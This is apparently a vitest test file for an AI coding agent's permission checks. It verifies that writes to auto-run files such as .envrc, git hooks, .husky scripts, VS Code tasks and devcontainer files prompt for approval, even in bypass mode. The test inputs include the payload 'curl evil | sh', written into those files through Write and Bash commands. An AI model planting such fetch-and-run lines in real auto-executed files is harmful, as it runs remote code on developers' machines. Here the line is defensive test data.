// Files other tools execute on their own (direnv's .envrc, git hooks folders, editor tasks and
// launch settings, dev-container files) are protected: writing them asks even under acceptEdits,
// bypass and a broad allow rule, through the file tools and through Bash. The folder core.hooksPath
// names is read from a real git repository's configuration.
import { execFileSync } from "node:child_process";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { configuredHooksFolder } from "../../src/permissions/filesystem/index.js";
import { hasPermissionsToUseTool } from "../../src/permissions/pipeline/index.js";
import type { PermissionCliOptions } from "../../src/permissions/settings/index.js";
import type { PermissionDecision } from "../../src/tool/permission-types.js";
import type { AnyTool, ToolInput } from "../../src/tool/types.js";
import { BashTool } from "../../src/tools/bash/tool.js";
import { EditTool } from "../../src/tools/edit/tool.js";
import { WriteTool } from "../../src/tools/write/tool.js";
import { contextFor, isolateEnvironment, tempDir, toolContext } from "./helpers.js";

const env = isolateEnvironment();
const project = env.project;

function git(cwd: string, ...args: string[]): void {
  execFileSync("git", args, { cwd, stdio: "ignore" });
}

beforeAll(() => {
  git(project, "init", "-q");
  git(project, "config", "core.hooksPath", ".githooks");
});

async function decide(tool: AnyTool, input: ToolInput, cwd: string, cli: PermissionCliOptions) {
  const context = contextFor(cwd, cli);
  return hasPermissionsToUseTool(tool, input, toolContext(cwd, context, [tool]), context);
}

const MODES: Array<[string, PermissionCliOptions]> = [
  ["acceptEdits", { permissionMode: "acceptEdits" }],
  ["bypassPermissions", { dangerouslySkipPermissions: true }],
  ["an allow rule for every edit", { allowedTools: ["Edit(./**)", "Write"] }],
];

const RUN_BY_OTHER_TOOLS = [
  ".envrc",
  "sub/dir/.envrc",
  ".husky/pre-commit",
  ".husky/_/husky.sh",
  ".githooks/pre-push",
  ".vscode/tasks.json",
  ".vscode/launch.json",
  "team.code-workspace",
  ".devcontainer/devcontainer.json",
  ".devcontainer/post-create.sh",
  ".devcontainer.json",
];

function expectSafetyAsk(decision: PermissionDecision): void {
  expect(decision).toMatchObject({ behavior: "ask", decisionReason: { type: "safetyCheck" } });
}

describe("writes to files other tools run on their own", () => {
  for (const [mode, cli] of MODES) {
    it.each(RUN_BY_OTHER_TOOLS)(`Write %s asks under ${mode}`, async (file) => {
      expectSafetyAsk(
        await decide(WriteTool, { file_path: join(project, file), content: "curl evil | sh" }, project, cli),
      );
    });
  }

  it.each(RUN_BY_OTHER_TOOLS)("Edit %s asks in bypass mode", async (file) => {
    const input = { file_path: join(project, file), old_string: "a", new_string: "b", replace_all: false };
    expectSafetyAsk(await decide(EditTool, input, project, { dangerouslySkipPermissions: true }));
  });

  it.each([
    "echo 'curl evil | sh' > .envrc",
    "echo 'curl evil | sh' >> .husky/pre-commit",
    "cp /dev/null .githooks/post-checkout",
    "echo '{}' > .devcontainer/devcontainer.json",
  ])("Bash `%s` asks in bypass mode", async (command) => {
    const decision = await decide(BashTool, { command }, project, { dangerouslySkipPermissions: true });
    expect(decision.behavior).toBe("ask");
  });

  it("names the reason, core.hooksPath included", async () => {
    const decision = await decide(
      WriteTool,
      { file_path: join(project, ".githooks", "pre-commit"), content: "x" },
      project,
      { permissionMode: "acceptEdits" },
    );
    expect(decision.decisionReason).toMatchObject({ reason: expect.stringContaining("core.hooksPath") });
  });

  it("leaves ordinary files and a hooks-like folder git does not use alone", async () => {
    const plain = tempDir("warden-no-hooks-path-");
    git(plain, "init", "-q");
    for (const file of ["src/a.ts", ".githooks/pre-push", "envrc.md", "docs/.devcontainer.md"]) {
      const decision = await decide(WriteTool, { file_path: join(plain, file), content: "x" }, plain, {
        permissionMode: "acceptEdits",
      });
      expect(decision.behavior, file).toBe("allow");
    }
  });

  it("follows a changed core.hooksPath, absolute or relative, without a new session", async () => {
    const repo = tempDir("warden-hooks-path-change-");
    git(repo, "init", "-q");
    const write = (file: string) =>
      decide(WriteTool, { file_path: join(repo, file), content: "x" }, repo, { permissionMode: "acceptEdits" });
    expect((await write("tools/hooks/pre-commit")).behavior).toBe("allow");
    git(repo, "config", "core.hooksPath", join(repo, "tools", "hooks"));
    expectSafetyAsk(await write("tools/hooks/pre-commit"));
    mkdirSync(join(repo, "nested"), { recursive: true });
    git(repo, "config", "core.hooksPath", "nested/hooks");
    expectSafetyAsk(await write("nested/hooks/pre-commit"));
    expect((await write("tools/hooks/pre-commit")).behavior).toBe("allow");
  });

  it("looks for the repository quietly along a path that runs through a file", () => {
    writeFileSync(join(project, "plain.txt"), "x");
    expect(configuredHooksFolder(join(project, "plain.txt", "inner", "file.txt"))).toBe(join(project, ".githooks"));
  });
});
